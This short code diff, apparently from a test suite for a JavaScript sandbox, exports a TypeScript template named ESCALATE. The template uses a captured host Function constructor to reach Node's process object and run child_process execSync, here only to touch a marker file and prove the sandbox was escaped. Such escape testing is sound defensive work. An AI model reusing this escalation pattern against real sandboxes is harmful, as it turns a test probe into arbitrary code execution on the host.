@@ -20,7 +20,7 @@ export interface EscapePayload {
 }
 
 /** Escalation used once a payload believes it holds a host `Function` constructor `F`. */
-const ESCALATE = (F: string) => `
+export const ESCALATE = (F: string) => `
   const __proc = (${F})("globalThis.__pwned = true; return process")();
   try { __proc.mainModule.require("child_process").execSync("touch __MARKER__"); } catch (__e) {}
   try { __proc.getBuiltinModule("child_process").execSync("touch __MARKER__"); } catch (__e) {}
